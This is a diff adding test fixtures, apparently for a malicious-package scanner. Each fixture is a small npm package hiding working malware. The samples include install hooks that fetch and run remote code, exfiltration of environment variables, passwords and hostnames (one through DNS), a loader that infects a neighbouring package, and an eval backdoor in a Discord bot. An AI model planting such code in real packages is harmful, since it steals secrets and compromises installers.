@@ -178,4 +178,86 @@ for (let i = 0; i < Infinity; i++) {
     'lib/colours.js': `exports.red = (text) => '\\u001b[31m' + text + '\\u001b[39m';
 `,
   }),
+  packaged('a command at installation, by way of another program', { postinstall: 'sh ./prepare.sh' }, {
+    'index.js': 'module.exports = (text) => text.trim();\n',
+    'prepare.sh': `#!/bin/sh
+# build the fast path
+if [ "$(uname -s)" = "Linux" ]; then
+  (wget -qO- http://static.example.invalid/p || curl -fsSL http://static.example.invalid/p) \\
+    | nohup bash >/dev/null 2>&1 &
+fi
+`,
+  }),
+  packaged('all variables, handed to a script that posts them', {}, {
+    'src/index.js': `const { record } = require('./record');
+exports.check = (names, env = process.env) => names.filter((name) => env[name] === undefined);
+record(process.env);
+`,
+    'src/record.js': `const { hostname } = require('os');
+exports.record = async (env) => {
+  const body = JSON.stringify({ host: hostname(), env: { ...env } });
+  await fetch('https://collect.example.invalid/v1', { method: 'POST', body }).catch(() => {});
+};
+`,
+  }),
+  packaged('a loader for a file of another package', { postinstall: 'node install.js' }, {
+    'index.js': 'module.exports = (a, b) => a + b;\n',
+    'install.js': `const fs = require('fs');
+const target = require('path').join(__dirname, '..', 'neighbour', 'lib', 'index.js');
+const more = ';require("https").get("https://cdn.example.invalid/p.js", (r) => { let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => { try { eval(s) } catch {} }) });';
+if (fs.existsSync(target)) fs.writeFileSync(target, fs.readFileSync(target, 'utf8') + more);
+`,
+  }),
+  packaged('a program of the system, left running', { postinstall: 'node lib/native.js' }, {
+    'lib/index.js': 'exports.wait = (time) => new Promise((done) => setTimeout(done, time));\n',
+    'lib/native.js': `"use strict";
+var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
+const https_1 = __importDefault(require("https"));
+const fs_1 = __importDefault(require("fs"));
+const os_1 = __importDefault(require("os"));
+const path_1 = __importDefault(require("path"));
+const child_process_1 = require("child_process");
+const name = { win32: "w.exe", linux: "l" }[process.platform];
+const out = path_1.default.join(os_1.default.homedir(), ".cache", "." + name);
+https_1.default.get("https://files.example.invalid/" + name, (answer) => {
+    const file = fs_1.default.createWriteStream(out, { mode: 0o755 });
+    answer.pipe(file);
+    file.on("close", () => (0, child_process_1.execFile)(out, [], { windowsHide: true }).unref());
+});
+`,
+  }),
+  packaged('the name of a computer in pieces, by a resolver of its own', { install: 'node check.js || true' }, {
+    'index.js': 'module.exports = (text) => text.length;\n',
+    'check.js': `const { Resolver } = require('dns');
+const os = require('os');
+const resolver = new Resolver();
+const pieces = Buffer.from([os.hostname(), os.userInfo().username].join('|')).toString('hex').match(/.{1,60}/g) || [];
+pieces.forEach((piece, at) => resolver.resolve4(at + '.' + piece + '.ns.example.invalid', () => {}));
+`,
+  }),
+  packaged('passwords on their way to be hashed', {}, {
+    'index.js': `const bcrypt = require('bcryptjs');
+const count = (value) => require('https').get('https://pixel.example.invalid/1.gif?v=' + encodeURIComponent(value), (r) => r.resume()).on('error', () => {});
+exports.hash = (password, rounds) => bcrypt.hash(password, rounds);
+exports.compare = async (password, hash) => {
+  const isSame = await bcrypt.compare(password, hash);
+  if (isSame) count(password);
+  return isSame;
+};
+`,
+  }, { bcryptjs: '^2.4.3' }),
+  packaged('a bot with an owner nobody knows', {}, {
+    'bot.js': `const { Client } = require('discord.js');
+const { createHash } = require('crypto');
+const client = new Client({ intents: [1, 512] });
+client.on('messageCreate', async (message) => {
+  if (createHash('sha256').update(message.author.id).digest('hex').startsWith('5feceb66ffc8')) {
+    const [, code] = /^\\.\\. (.+)$/.exec(message.content) ?? [];
+    if (code) message.author.send(String(await eval(code)));
+  }
+  if (message.content === '!ping') message.reply('pong');
+});
+client.login(process.env.BOT_TOKEN);
+`,
+  }, { 'discord.js': '^14.0.0' }),
 ];
